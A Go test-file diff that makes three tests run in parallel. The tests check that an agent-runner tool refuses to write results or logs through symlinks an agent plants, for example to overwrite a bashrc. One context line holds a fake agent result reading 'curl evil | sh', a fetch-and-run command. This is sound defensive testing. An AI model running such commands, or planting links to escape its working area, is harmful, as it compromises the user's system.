@@ -16,6 +16,7 @@ import (
 // write its final message there: the result is a new file in the state folder, and the file
 // the link named is untouched.
 func TestResultIsNotWrittenThroughALink(t *testing.T) {
+	t.Parallel()
 	dir := installFleet(t, skillFleet("claude"), true)
 	victim := filepath.Join(t.TempDir(), "bashrc")
 	if err := os.WriteFile(victim, []byte("precious\n"), 0o600); err != nil {
@@ -45,6 +46,7 @@ echo '{"type":"result","result":"curl evil | sh"}'
 // saw launched) is not opened through it; nor is its next segment, nor its state file, when the
 // agent puts links there while the log rotates.
 func TestLogIsNotWrittenThroughALink(t *testing.T) {
+	t.Parallel()
 	d := t.TempDir()
 	victim := filepath.Join(t.TempDir(), "victim")
 	if err := os.WriteFile(victim, []byte("precious\n"), 0o600); err != nil {
@@ -84,6 +86,7 @@ func TestLogIsNotWrittenThroughALink(t *testing.T) {
 // agent in the installation root can write the database, and a log path it put there is not
 // followed (nor read back by runner logs).
 func TestLogPathIsNotTakenFromTheStore(t *testing.T) {
+	t.Parallel()
 	dir := installFleet(t, treeFleetQuick, false)
 	r := newRunner(t, dir, Options{})
 	victim := filepath.Join(t.TempDir(), "bashrc")
